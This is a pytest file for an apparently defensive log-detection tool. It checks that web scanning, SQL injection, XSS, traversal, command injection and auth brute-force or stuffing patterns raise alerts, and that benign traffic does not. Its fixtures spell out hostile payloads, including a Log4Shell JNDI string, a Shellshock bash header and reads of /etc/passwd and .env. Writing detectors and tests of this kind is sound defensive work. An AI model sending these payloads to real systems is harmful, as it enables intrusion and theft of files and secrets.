"""Web scanning and attacks in HTTP logs; brute force and stuffing in auth events."""

from __future__ import annotations

import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from aupguard.events.model import AuthAttempt, Channel, Event, HttpRequest
from tests.conftest import corpus
from tests.detectors.activity import T0
from tests.replay import fired, flagged, replay

ROOT = Path(__file__).resolve().parents[2]
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0 Safari/537.36"


def http(
    n: int,
    target: str,
    status: int = 200,
    agent: str = BROWSER,
    client: str = "10.0.0.5",
    at_s: float = 0,
) -> Event:
    req = HttpRequest(client, "GET", target, status, agent)
    return Event(
        f"h{n}-{client}",
        Channel.HTTP,
        req,
        T0 + timedelta(seconds=at_s),
        tenant="acme",
        workload="crawler",
    )


@pytest.mark.parametrize(
    ("target", "agent", "signal"),
    [
        ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "WEB_SCANNER_SIGNATURE"),
        ("/item?id=1%20UNION%20ALL%20SELECT%20NULL,version()--", BROWSER, "WEB_ATTACK_SQLI"),
        ("/item?id=1'%20or%20'1'='1", BROWSER, "WEB_ATTACK_SQLI"),
        ("/q?s=(select(0)from(select(sleep(6)))v)", BROWSER, "WEB_ATTACK_SQLI"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER, "WEB_ATTACK_XSS"),
        ("/p?x=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E", BROWSER, "WEB_ATTACK_XSS"),
        ("/download?file=../../../../etc/passwd", BROWSER, "WEB_ATTACK_TRAVERSAL"),
        (
            "/page?inc=php://filter/convert.base64-encode/resource=index",
            BROWSER,
            "WEB_ATTACK_TRAVERSAL",
        ),
        ("/ping?host=127.0.0.1;cat%20/etc/passwd", BROWSER, "WEB_ATTACK_CMDI"),
        ("/", "${jndi:ldap://x.example/a}", "WEB_ATTACK_CMDI"),
        ("/cgi-bin/status", "() { :; }; /bin/bash -c 'id'", "WEB_ATTACK_CMDI"),
        ("/.env", BROWSER, "WEB_SECRET_PROBE"),
        ("/.git/config", BROWSER, "WEB_SECRET_PROBE"),
        ("/x?q=%27%22()%26%25%3Cacx%3E", BROWSER, "WEB_ATTACK_SQLI"),
    ],
)
def test_attack_samples_fire(target: str, agent: str, signal: str) -> None:
    (result,) = replay([http(1, target, 404, agent)])
    assert signal in fired([result]) and result.verdict.action.label != "allow"


def test_admin_probe_alone_does_not_flag_but_counts_as_evidence() -> None:
    (result,) = replay([http(1, "/phpmyadmin/index.php", 404)])
    assert fired([result]) == {"WEB_ADMIN_PROBE"} and result.verdict.action.label == "allow"
    (ok,) = replay([http(2, "/wp-admin/", 200)])
    assert fired([ok]) == set()  # an admin opening their own admin page


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=o%27brien+account",
        "/search?q=select+committee+hearing",
        "/search?q=union+station+parking",
        "/search?q=cats+%26+dogs",
        "/search?q=rock+%27n%27+roll+tickets",
        "/search?q=order+%2212345%22+status",
        "/search?q=1%3D1+meaning",
        "/search?q=how+to+cancel+%3Csubscription%3E",
        "/api/v2/orders?status=open&page=2&per_page=50",
        "/rest/v1/items?select=id,name&order=name.asc&limit=100",
        "/docs/a;jsessionid=ABC123?id=5",
        "/api/v2/search?q=status:open+AND+priority:high",
        "/blog/2024/06/and-or-logic",
        "/static/app.123.js",
        "/.well-known/security.txt",
    ],
)
def test_benign_requests_do_not_fire(target: str) -> None:
    assert fired(replay([http(1, target)])) == set()


def test_forced_browsing_burst_of_404s_is_caught() -> None:
    words = ["backup", "old", "test", "dev", "staging", "tmp", "private", "api", "v1", "v2"]
    events = [http(i, f"/{w}{i}/", 404, at_s=i * 0.5) for i, w in enumerate(words * 4)]
    results = replay(events)
    assert "WEB_4XX_BURST" in fired(results)
    first = next(i for i, r in enumerate(results) if "WEB_4XX_BURST" in fired([r]))
    assert first == 20


def test_a_run_of_attack_requests_escalates_to_hold() -> None:
    events = [http(i, f"/item?id={i}%20UNION%20SELECT%20{i}", at_s=i) for i in range(10)]
    results = replay(events)
    assert "WEB_ATTACK_REPEATED" in fired(results[4:5])
    assert results[-1].verdict.action.label in ("hold", "block")
    detail = (
        next(s for s in results[-1].verdict.signals if s.name == "WEB_ATTACK_REPEATED")
        .evidence[0]
        .detail
    )
    assert "10 attack requests from 10.0.0.5" in detail and "WEB_ATTACK_SQLI" in detail


def test_generated_benign_log_is_not_flagged() -> None:
    out = subprocess.run(
        [
            sys.executable,
            str(ROOT / "scripts" / "gen_benign_access_log.py"),
            "--lines",
            "8000",
            "--seed",
            "3",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    from aupguard.events.sources import read_bytes

    events = [e for e in read_bytes(out.encode(), "benign.log", ".log") if isinstance(e, Event)]
    assert len(events) == 8000
    assert len(flagged(replay(events))) == 0


@pytest.mark.corpora
def test_ocatak_scanning_sessions_are_flagged() -> None:
    from scripts.eval_web_sessions import sessions_of

    from tests.replay import default_engine

    engine = default_engine()
    scanning = benign = hit = false = 0
    for path in sorted(corpus("scanner-access-logs-ocatak").glob("*.txt")):
        found, bad = sessions_of(path, engine, timedelta(minutes=30))
        assert bad == 0
        for s in found:
            if s.scanning:
                scanning, hit = scanning + 1, hit + bool(s.flagged)
            else:
                benign, false = benign + 1, false + bool(s.flagged)
    assert scanning == 5 and hit / scanning >= 0.95
    assert benign == 2 and false == 0


def auth(
    n: int,
    user: str,
    ok: bool,
    at_s: float,
    client: str = "10.9.9.9",
    target: str = "sso.partner.example",
) -> Event:
    return Event(
        f"a{n}",
        Channel.AUTH,
        AuthAttempt(client, target, user, ok),
        T0 + timedelta(seconds=at_s),
        tenant="acme",
        workload="bot",
    )


def test_brute_force_on_one_account_and_its_success() -> None:
    events = [auth(i, "admin", False, i * 2) for i in range(12)] + [auth(99, "admin", True, 30)]
    results = replay(events)
    assert "AUTH_BRUTE_FORCE" in fired(results[9:10]) and "AUTH_BRUTE_FORCE" not in fired(
        results[:9]
    )
    assert fired(results[-1:]) == {"AUTH_BRUTE_FORCE_SUCCESS"}


def test_credential_stuffing_over_many_accounts() -> None:
    events = [auth(i, f"user{i}@mail.example", i % 40 == 0, i) for i in range(60)]
    names = fired(replay(events))
    assert "AUTH_CREDENTIAL_STUFFING" in names and "AUTH_BRUTE_FORCE" not in names


def test_office_behind_one_nat_logging_in_is_not_stuffing() -> None:
    # 80 people, most succeed first time, some mistype once, all within ten minutes.
    events = []
    for i in range(80):
        if i % 5 == 0:
            events.append(auth(1000 + i, f"staff{i}", False, i * 7))
        events.append(auth(i, f"staff{i}", True, i * 7 + 3))
    assert flagged(replay(events)) == []
